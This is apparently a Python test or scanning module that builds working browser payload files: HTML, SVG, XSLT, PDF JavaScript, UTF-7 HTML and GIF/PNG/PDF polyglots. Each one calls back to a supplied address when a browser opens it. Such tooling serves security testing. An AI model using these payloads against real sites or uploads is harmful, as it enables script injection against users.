"""Files that do something when a browser opens them, if it lets them: each calls an address."""

import base64

TYPES = (
    "text/html",
    "text/html; charset=utf-7",
    "application/xhtml+xml",
    "text/xml",
    "image/svg+xml",
    "application/pdf",
    "text/javascript",
    "text/css",
    "multipart/x-mixed-replace",
    "multipart/related",
    "message/rfc822",
    "application/octet-stream",
    "text/plain",
    "image/gif",
    "image/png",
)
"""What they are said to be, each of them, whatever it is."""

STYLE = "text/xsl"


def fetching(address: str) -> str:
    """JavaScript that calls an address, and is not stopped by the end of its page."""
    return f"fetch('{address}', {{mode: 'no-cors', keepalive: true}})"


def html(call: str) -> bytes:
    return (
        f"<!DOCTYPE html><html><head><meta http-equiv='refresh' content='0;url={call}/refresh'>"
        f"<link rel='stylesheet' href='{call}/style'><script src='{call}/script'></script></head>"
        f"<body onload=\"{fetching(call + '/onload')}\"><img src='{call}/img'>"
        f"<script>{fetching(call + '/inline')}; alert('ran')</script>"
        f"<iframe src='{call}/frame'></iframe><object data='{call}/object'></object>"
        f"<form id='f' action='{call}/form'></form><script>f.submit()</script></body></html>"
    ).encode()


def svg(call: str) -> bytes:
    return (
        f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{fetching(call + '/onload')}\">"
        f"<script>{fetching(call + '/inline')}</script><image href='{call}/image'/>"
        f"<foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' src='{call}/frame'/></foreignObject></svg>"
    ).encode()


def xhtml(call: str) -> bytes:
    return (
        f"<html xmlns='http://www.w3.org/1999/xhtml'><body><img src='{call}/img'/>"
        f"<script>{fetching(call + '/inline')}</script></body></html>"
    ).encode()


def styled(call: str, style: str) -> bytes:
    """XML with a stylesheet that makes a page of it; `style` is the address of that, on the same site."""
    return f"<?xml-stylesheet type='text/xsl' href='{style}'?><a call='{call}'/>".encode()


def stylesheet() -> bytes:
    """The stylesheet: a page with a script that calls what the XML says."""
    return (
        b"<xsl:stylesheet version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform'><xsl:template match='/'>"
        b"<html><body><img src='{/a/@call}/img'/>"
        b"<script>fetch('<xsl:value-of select='/a/@call'/>/inline', {keepalive: true})</script>"
        b"</body></html></xsl:template></xsl:stylesheet>"
    )


def pdf(call: str) -> bytes:
    return (
        f"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\('ran'\\);"
        f"this.submitForm\\('{call}/js'\\))>>/AA<</WC<</S/URI/URI({call}/uri)>>>>>>endobj\n"
        "2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\n"
        "trailer<</Root 1 0 R>>\n%%EOF"
    ).encode()


def gif_script(call: str) -> bytes:
    """A GIF that is JavaScript, and HTML behind that."""
    return f"GIF89a=1;{fetching(call + '/script')}//".encode() + bytes(8) + html(call)


def png_html(call: str) -> bytes:
    """The smallest PNG, with HTML behind it."""
    png = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNk+A8AAQUBAScY42YAAAAASUVORK5CYII="
    return base64.b64decode(png) + html(call)


def pdf_script(call: str) -> bytes:
    """A PDF that is JavaScript."""
    return f"/*%PDF-1.7\n*/{fetching(call + '/script')}/*\n".encode() + pdf(call) + b"*/"


def script(call: str) -> bytes:
    return fetching(f"{call}/script").encode()


def utf_7(call: str) -> bytes:
    return html(call).decode().replace("<", "+ADw-").replace(">", "+AD4-").encode()


def mail(call: str) -> bytes:
    return b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n" + html(call)


def replacing(call: str) -> bytes:
    return b"--b\r\nContent-Type: text/html\r\n\r\n" + html(call) + b"\r\n--b--"


FILES = (html, svg, xhtml, pdf, gif_script, png_html, pdf_script, script, utf_7, mail, replacing)
"""Makes a file that calls an address."""

LIVE = {
    "html": "text/html",
    "svg": "image/svg+xml",
    "xhtml": "application/xhtml+xml",
    "styled": "text/xml",
    "png_html": "text/html",
    "mail": "text/html",
}
"""Files that a browser makes a page of which it runs, with the type by which it does."""
